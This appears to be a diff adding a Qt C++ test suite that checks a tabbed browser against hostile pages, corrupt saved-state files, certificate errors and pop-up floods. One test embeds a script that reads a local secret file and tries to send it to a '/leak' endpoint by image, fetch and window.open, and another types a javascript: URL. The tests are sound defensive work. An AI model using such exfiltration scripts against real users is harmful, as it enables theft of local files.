@@ -1,0 +1,258 @@
+// The browser against hostile pages and damaged stored files: nothing let
+// in, nothing lost at exit, no hang on a stored count.
+#include "browsercontrol.h"
+#include "browserfixture.h"
+#include "dockframe.h"
+#include "documentwindow.h"
+#include "form1.h"
+#include "form2.h"
+#include "mainrules.h"
+#include "mdlaplication.h"
+#include "mdlregistry.h"
+#include "popupcatcherpage.h"
+#include "programstate.h"
+#include "testenvironment.h"
+#include "testhttpserver.h"
+#include "webtestmain.h"
+
+#include <QAction>
+#include <QApplication>
+#include <QElapsedTimer>
+#include <QLineEdit>
+#include <QProcess>
+#include <QStandardPaths>
+#include <QTcpServer>
+#include <QTemporaryDir>
+#include <QWebEngineView>
+#include <QtTest>
+
+using namespace mdlRegistry;
+using namespace BrowserFixture;
+
+namespace {
+QByteArray page(const char *title, const QByteArray &body = {})
+{
+    return "<html><head><title>" + QByteArray(title) + "</title></head><body>" + body + "</body></html>";
+}
+
+QString titleOf(Form1 *main, int position)
+{
+    Form2 *tab = tabAt(main, position);
+    return tab ? tab->wb1()->LocationName() : QString();
+}
+} // namespace
+
+class TestHostile : public QObject
+{
+    Q_OBJECT
+
+private slots:
+    void init()
+    {
+        // A server of its own for each test: connections the engine still
+        // holds from the test before cannot delay this one.
+        m_server = std::make_unique<TestHttpServer>();
+        QVERIFY(m_server->listen());
+        m_server->setPage(QStringLiteral("/home"), page("Home Page"));
+        m_server->setPage(QStringLiteral("/a"), page("Page A"));
+        m_server->setPage(QStringLiteral("/leak"), page("leak"));
+        m_server->setPage(QStringLiteral("/flood"),
+                         page("Flood", "<button id='b' style='position:fixed;left:0;top:0;width:100%;height:100%'"
+                                       " onclick=\"for(var i=0;i<300;i++)window.open('');document.title='flooded'\">go</button>"));
+        m_env = std::make_unique<TestEnvironment>();
+        QVERIFY(QDir().mkpath(m_env->programDir() + QStringLiteral("/_data")));
+        SetRegistryValue(HKEY_LOCAL_MACHINE, kSettingsKey, QStringLiteral("HomePage"), m_server->url(QStringLiteral("/home")));
+    }
+    void cleanup()
+    {
+        m_env.reset();
+        m_server.reset();
+    }
+
+    void hugeStoredCountsStartAtOnce()
+    {
+        const QString loadedFile = m_env->programDir() + QStringLiteral("/_data/_loaded.dat");
+        QFile loaded(loadedFile);
+        QVERIFY(loaded.open(QIODevice::WriteOnly));
+        loaded.write("[Global]\r\nCount=2147483647\r\n[Loaded URL]\r\nURL_3=" + m_server->url(QStringLiteral("/a")).toUtf8() + "\r\n");
+        loaded.close();
+        QFile config(m_env->programDir() + QStringLiteral("/_config.dat"));
+        QVERIFY(config.open(QIODevice::WriteOnly));
+        config.write("[Search]\r\nCount=2147483647\r\nText1=One\r\nUrl1=http://127.0.0.1:1/?q=<%search%>\r\n");
+        config.close();
+        QElapsedTimer clock;
+        clock.start();
+        auto main = start();
+        QVERIFY2(clock.elapsed() < 15000, qPrintable(QString::number(clock.elapsed())));
+        QCOMPARE(main->dsMain()->documentCount(), 3);
+        QVERIFY(waitLoaded(main.get(), 3, m_server->url(QStringLiteral("/a"))));
+        shutDown(main);
+    }
+
+    void typedScriptAddressRunsNothing()
+    {
+        auto main = start();
+        QVERIFY(waitLoaded(main.get(), 1, m_server->url(QStringLiteral("/home"))));
+        QLineEdit *box = main->dsMain()->addressBox();
+        box->setFocus();
+        box->selectAll();
+        QTest::keyClicks(box, QStringLiteral("javascript:document.title='pwned'"));
+        QTest::keyClick(box, Qt::Key_Return);
+        Form2 *tab = tabAt(main.get(), 1);
+        QTRY_COMPARE_WITH_TIMEOUT(titleOf(main.get(), 1), QStringLiteral("Home Page"), kTimeout);
+        // A page load after it shows the script did not slip through later.
+        tab->wb1()->Navigate(m_server->url(QStringLiteral("/a")));
+        QVERIFY(waitLoaded(main.get(), 1, m_server->url(QStringLiteral("/a"))));
+        QCOMPARE(titleOf(main.get(), 1), QStringLiteral("Page A"));
+        shutDown(main);
+    }
+
+    void localPageReadsNoFileAndReachesNoServer()
+    {
+        QTemporaryDir dir;
+        QFile secret(dir.filePath(QStringLiteral("secret.txt")));
+        QVERIFY(secret.open(QIODevice::WriteOnly));
+        secret.write("the secret");
+        secret.close();
+        const QString leak = m_server->url(QStringLiteral("/leak"));
+        QFile html(dir.filePath(QStringLiteral("evil.html")));
+        QVERIFY(html.open(QIODevice::WriteOnly));
+        html.write("<html><head><title>start</title></head><body><script>\n"
+                   "var got='blocked';\n"
+                   "try { var x=new XMLHttpRequest(); x.open('GET','" + QUrl::fromLocalFile(secret.fileName()).toEncoded() + "',false);"
+                   " x.send(); got=x.responseText; } catch(e) {}\n"
+                   "new Image().src='" + leak.toUtf8() + "?img='+got;\n"
+                   "fetch('" + leak.toUtf8() + "?fetch='+got).catch(function(){});\n"
+                   "window.open('" + leak.toUtf8() + "?open='+got);\n"
+                   "document.title='read:'+got;\n"
+                   "</script></body></html>");
+        html.close();
+        auto main = start();
+        QVERIFY(waitLoaded(main.get(), 1, m_server->url(QStringLiteral("/home"))));
+        tabAt(main.get(), 1)->wb1()->Navigate(QUrl::fromLocalFile(html.fileName()).toString());
+        QTRY_VERIFY_WITH_TIMEOUT(titleOf(main.get(), 1).startsWith(QStringLiteral("read:")), kTimeout);
+        QCOMPARE(titleOf(main.get(), 1), QStringLiteral("read:blocked"));
+        // Give the requests their chance to arrive: a page loaded after them does.
+        mdlAplication::OpenBrowserTab(m_server->url(QStringLiteral("/a")));
+        QVERIFY(waitLoaded(main.get(), 3, m_server->url(QStringLiteral("/a"))));
+        QCOMPARE(m_server->requestCount(QStringLiteral("/leak")), 0);
+        QCOMPARE(main->dsMain()->documentCount(), 3); // no tab for the pop-up
+        shutDown(main);
+    }
+
+    void failedSecureLoadShowsNoLock()
+    {
+        auto main = start();
+        QVERIFY(waitLoaded(main.get(), 1, m_server->url(QStringLiteral("/home"))));
+        Form2 *tab = tabAt(main.get(), 1);
+        // https to a port nobody listens on: the load fails.
+        QTcpServer gone;
+        QVERIFY(gone.listen(QHostAddress(QStringLiteral("127.0.0.1")), 0));
+        const QString url = QStringLiteral("https://127.0.0.1:%1/a").arg(gone.serverPort());
+        gone.close();
+        QSignalSpy done(tab->wb1(), &BrowserControl::DocumentComplete);
+        tab->wb1()->Navigate(url);
+        QVERIFY(done.wait(kTimeout));
+        QVERIFY(!tab->lockVisible());
+        QCOMPARE(tab->lockToolTip(), QStringLiteral("Zone Internet"));
+        shutDown(main);
+    }
+
+    void certificateErrorPageAndTheWayOn()
+    {
+        const QString openssl = QStandardPaths::findExecutable(QStringLiteral("openssl"));
+        if (openssl.isEmpty())
+            QSKIP("openssl is not installed");
+        QTemporaryDir dir;
+        QProcess make;
+        make.start(openssl, {QStringLiteral("req"), QStringLiteral("-x509"), QStringLiteral("-newkey"), QStringLiteral("rsa:2048"),
+                             QStringLiteral("-nodes"), QStringLiteral("-subj"), QStringLiteral("/CN=127.0.0.1"), QStringLiteral("-days"),
+                             QStringLiteral("2"), QStringLiteral("-keyout"), dir.filePath(QStringLiteral("key.pem")),
+                             QStringLiteral("-out"), dir.filePath(QStringLiteral("cert.pem"))});
+        QVERIFY(make.waitForFinished(60000));
+        QFile cert(dir.filePath(QStringLiteral("cert.pem")));
+        QFile key(dir.filePath(QStringLiteral("key.pem")));
+        QVERIFY(cert.open(QIODevice::ReadOnly) && key.open(QIODevice::ReadOnly));
+        TestHttpServer secure;
+        if (!secure.listenTls(cert.readAll(), key.readAll()))
+            QSKIP("no TLS support in this Qt build");
+        secure.setPage(QStringLiteral("/s"), page("Self-signed"));
+
+        auto main = start();
+        QVERIFY(waitLoaded(main.get(), 1, m_server->url(QStringLiteral("/home"))));
+        Form2 *tab = tabAt(main.get(), 1);
+        tab->wb1()->Navigate(secure.url(QStringLiteral("/s")));
+        QTRY_COMPARE_WITH_TIMEOUT(titleOf(main.get(), 1), QStringLiteral("Certificate error"), kTimeout);
+        QVERIFY(!QApplication::activeModalWidget()); // no question in a dialog
+        QVERIFY(!tab->lockVisible());
+        QCOMPARE(secure.requestCount(QStringLiteral("/s")), 0);
+
+        // The way on, by keyboard: Tab to the link, Enter.
+        QWidget *page = tab->wb1()->view()->focusProxy();
+        QVERIFY(page);
+        page->setFocus();
+        QTest::keyClick(page, Qt::Key_Tab);
+        QTest::keyClick(page, Qt::Key_Return);
+        QTRY_COMPARE_WITH_TIMEOUT(titleOf(main.get(), 1), QStringLiteral("Self-signed"), kTimeout);
+        QTRY_VERIFY_WITH_TIMEOUT(!tab->wb1()->Busy(), kTimeout);
+        QVERIFY(!tab->lockVisible()); // passed, but never shown as secure
+        shutDown(main);
+    }
+
+    void emptyPopupFloodHoldsNoPages()
+    {
+        auto main = start();
+        main->dsMain()->command(QStringLiteral("mnuPopStop"))->trigger(); // pop-up stop on
+        Form2 *tab = tabAt(main.get(), 1);
+        tab->wb1()->Navigate(m_server->url(QStringLiteral("/flood")));
+        QVERIFY(waitLoaded(main.get(), 1, m_server->url(QStringLiteral("/flood"))));
+        QWidget *target = tab->wb1()->view()->focusProxy();
+        QVERIFY(target);
+        QTest::mouseClick(target, Qt::LeftButton, {}, QPoint(40, 40));
+        QTRY_COMPARE_WITH_TIMEOUT(titleOf(main.get(), 1), QStringLiteral("flooded"), kTimeout);
+        QVERIFY(PopupCatcherPage::alive() <= PopupCatcherPage::kMostAlive);
+        QTRY_COMPARE_WITH_TIMEOUT(PopupCatcherPage::alive(), 0, 10000);
+        QCOMPARE(main->dsMain()->documentCount(), 2);
+        shutDown(main);
+    }
+
+    // Last: the engine takes a while to drop the loads still open at this
+    // exit, and a window started meanwhile in the same process loads nothing.
+    void exitListsEveryOpenPage()
+    {
+        // Pages that never arrive come from a server of their own: the engine
+        // keeps only a few connections to one server, and they would block the rest.
+        TestHttpServer stalls;
+        QVERIFY(stalls.listen());
+        stalls.setPage(QStringLiteral("/stall"), QByteArray(), 0);
+        auto main = start();
+        QVERIFY(waitLoaded(main.get(), 1, m_server->url(QStringLiteral("/home"))));
+        QStringList expected{m_server->url(QStringLiteral("/home")), QString()};
+        for (int i = 0; i < 40; ++i) {
+            // Half still loading at exit, half completing while the window closes.
+            const QString url = i % 2 ? stalls.url(QStringLiteral("/stall?%1").arg(i))
+                                      : m_server->url(QStringLiteral("/a?%1").arg(i));
+            mdlAplication::OpenBrowserTab(url);
+            expected.append(url);
+        }
+        QCOMPARE(main->dsMain()->documentCount(), 42);
+        main->dsMain()->command(QStringLiteral("mnuExit"))->trigger();
+        main.reset();
+        QCoreApplication::sendPostedEvents(nullptr, QEvent::DeferredDelete);
+
+        const QString file = m_env->programDir() + QStringLiteral("/_data/_loaded.dat");
+        QCOMPARE(mdlIniControl::ReadIniValue(file, QStringLiteral("Global"), QStringLiteral("Count")), QStringLiteral("42"));
+        for (int position = 3; position <= 42; ++position)
+            QCOMPARE(mdlIniControl::ReadIniValue(file, QStringLiteral("Loaded URL"), QStringLiteral("URL_%1").arg(position)),
+                     expected.at(position - 1));
+        QCOMPARE(MainRules::pagesToReopen(file), expected.mid(2));
+    }
+
+private:
+    std::unique_ptr<TestHttpServer> m_server;
+    std::unique_ptr<TestEnvironment> m_env;
+};
+
+QUILLON_WEB_TEST_MAIN(TestHostile)
+
+#include "tst_hostile.moc"
